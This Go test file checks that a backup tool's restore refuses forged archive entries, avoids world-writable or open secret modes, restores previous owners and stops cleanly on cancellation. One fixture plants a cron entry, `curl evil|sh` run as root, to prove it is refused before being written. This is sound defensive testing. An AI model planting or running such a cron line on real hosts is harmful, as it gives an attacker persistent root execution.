package backup

import (
	"context"
	"crypto/ed25519"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	bprofile "github.com/stella-ops/stella-mirror/backup/profile"

	"github.com/stella-ops/stella-mirror/internal/testenv"
)

// TestRefusedRestoreKeepsExistingFolderOwners: a forged archive (here
// signed by a trusted key by mistake) with a folder entry for a folder
// that already exists under the restore root and that no configuration
// references is refused — and the folder keeps its owner and mode. As
// root, restore chowns folder entries before the rules are checked; the
// undo must put the owner back, not only the mode.
func TestRefusedRestoreKeepsExistingFolderOwners(t *testing.T) {
	testenv.Root(t, "restore changes owners only as root, so this test")
	p := newProfile(t)
	res, err := testBackup(Options{Configs: p.configs, OutDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	root := filepath.Join(t.TempDir(), "root")
	existing := filepath.Join(root, "srv", "data")
	if err := os.MkdirAll(existing, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chown(existing, 0, 0); err != nil {
		t.Fatal(err)
	}
	fg := unpack(t, res.Archive)
	fg.m.Entries = append(fg.m.Entries, Entry{Path: "/srv/data", Type: TypeDir, Mode: "0777", Kind: "include", UID: 4242, GID: 4242})
	_, err = testRestore(RestoreOptions{Archive: fg.write(t, testSigningKey, nil), Root: root, Chown: true})
	if err == nil {
		t.Fatal("a folder entry no configuration references was restored")
	}
	t.Log(err)
	fi, err := os.Stat(existing)
	if err != nil {
		t.Fatal(err)
	}
	st := fi.Sys().(*syscall.Stat_t)
	if st.Uid != 0 || st.Gid != 0 {
		t.Errorf("%s is owned by %d:%d after the refused restore, want 0:0 as before", existing, st.Uid, st.Gid)
	}
	if fi.Mode().Perm() != 0o755 {
		t.Errorf("%s has mode %v after the refused restore, want 0755 as before", existing, fi.Mode().Perm())
	}
}

// TestUnreferencedEntryNeverWritten: restore --to / puts files on a live
// host, where a file in /etc/cron.d is acted on the moment it exists. An
// entry no restored configuration references must be refused before it
// is written, not written and removed again: when the configurations are
// loaded (the rules need them), nothing but the configurations (and their
// folders) may be under the root yet.
func TestUnreferencedEntryNeverWritten(t *testing.T) {
	p := newProfile(t)
	res, err := testBackup(Options{Configs: p.configs, OutDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	fg := unpack(t, res.Archive)
	fg.add("/etc/cron.d/evil", "0644", "config", []byte("* * * * * root sh -c 'curl evil|sh'\n"))
	root := filepath.Join(t.TempDir(), "root")
	evil := filepath.Join(root, "etc", "cron.d")
	seen := ""
	_, err = testRestore(RestoreOptions{Archive: fg.write(t, testSigningKey, nil), Root: root,
		References: func(ctx context.Context, root string, configs []string, maps []PathMapping) ([]Reference, error) {
			if _, err := os.Lstat(evil); err == nil {
				seen = listTree(t, evil)
			}
			return bprofile.References(ctx, root, configs, maps)
		}})
	if !errors.Is(err, ErrRefused) {
		t.Fatalf("err = %v, want ErrRefused", err)
	}
	if seen != "" {
		t.Errorf("the unreferenced entry was written before the rules refused it:\n%s", seen)
	}
	emptyDir(t, root)
}

// TestRestoreSecretFolderNotOpen: a folder of secrets (the gateway's ACME
// storage: account key, certificate keys) whose manifest mode is 0777 is
// not restored writable by others — anyone could then replace the keys the
// gateway loads — nor readable by them: at most 0750, like the secrets in
// it at most 0640.
func TestRestoreSecretFolderNotOpen(t *testing.T) {
	p := newProfile(t)
	res, err := testBackup(Options{Configs: p.configs, OutDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	fg := unpack(t, res.Archive)
	gw := p.configs[0]
	storage := filepath.Join(p.dir, "var", "lib", "stella-mirror", "acme")
	yaml := string(fg.files[member(gw)])
	yaml = strings.Replace(yaml, `  httpListen: ""`, `  httpListen: 127.0.0.1:8080`, 1)
	yaml += "    - name: acme\n      hosts: [acme.example.test]\n      domains: [primary]\n      acme: true\n" +
		"  acme:\n    directoryURL: https://acme.example.test/directory\n    storage: " + storage + "\n"
	fg.files[member(gw)] = []byte(yaml)
	for i := range fg.m.Entries {
		if fg.m.Entries[i].Path == gw {
			fg.m.Entries[i].Mode = "0644"
		}
	}
	fg.m.Entries = append(fg.m.Entries, Entry{Path: storage, Type: TypeDir, Mode: "0777", Kind: "acme"})
	fg.add(filepath.Join(storage, "account.key"), "0666", "acme", []byte("-----BEGIN PRIVATE KEY-----\n"))
	root := filepath.Join(t.TempDir(), "root")
	if _, err := testRestore(RestoreOptions{Archive: fg.write(t, testSigningKey, nil), Root: root}); err != nil {
		t.Fatal(err)
	}
	for name, max := range map[string]os.FileMode{storage: 0o750, filepath.Join(storage, "account.key"): 0o640} {
		fi, err := os.Stat(filepath.Join(root, name))
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode().Perm()&^max != 0 {
			t.Errorf("%s restored %v, want at most %v (the manifest said 0777/0666)", name, fi.Mode().Perm(), max)
		}
	}
}

// TestRestoreStopsWhenCancelled: SIGTERM or Ctrl-C (the command's
// context) stops a restore — which, with exports, writes gigabytes — and
// undoes what it wrote; it must not go on to completion and exit 0.
func TestRestoreStopsWhenCancelled(t *testing.T) {
	p := newProfile(t)
	res, err := testBackup(Options{Configs: p.configs, IncludeExports: true, OutDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancelCause(context.Background())
	cancel(errors.New("terminated signal received"))
	root := filepath.Join(t.TempDir(), "root")
	_, err = Restore(ctx, RestoreOptions{Archive: res.Archive, Root: root, VerifyKeys: []ed25519.PublicKey{testVerifyKey},
		References: bprofile.References})
	if err == nil || !strings.Contains(err.Error(), "terminated signal received") {
		t.Fatalf("err = %v, want the restore interrupted", err)
	}
	emptyDir(t, root)
}

// TestRestoreNeverWorldWritable: a manifest's world-writable modes (a
// 0666 configuration, a 0777 folder) are not restored: anyone on the host
// could then rewrite what a service loads. A folder keeps o+w only when it
// is sticky.
func TestRestoreNeverWorldWritable(t *testing.T) {
	p := newProfile(t)
	res, err := testBackup(Options{Configs: p.configs, OutDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	fg := unpack(t, res.Archive)
	gw := p.configs[0]
	var dirs []string
	for i := range fg.m.Entries {
		e := &fg.m.Entries[i]
		switch {
		case e.Path == gw:
			e.Mode = "0666"
		case e.Type == TypeDir:
			e.Mode = "0777"
			dirs = append(dirs, e.Path)
		}
	}
	root := filepath.Join(t.TempDir(), "root")
	if _, err := testRestore(RestoreOptions{Archive: fg.write(t, testSigningKey, nil), Root: root}); err != nil {
		t.Fatal(err)
	}
	for _, name := range append(dirs, gw) {
		fi, err := os.Stat(filepath.Join(root, name))
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode().Perm()&0o002 != 0 {
			t.Errorf("%s restored %v: world-writable", name, fi.Mode().Perm())
		}
	}
	if fi, err := os.Stat(filepath.Join(root, gw)); err != nil || fi.Mode().Perm() != 0o664 {
		t.Errorf("%s restored %v, want 0664 (the manifest's 0666 without o+w)", gw, fi.Mode())
	}
}
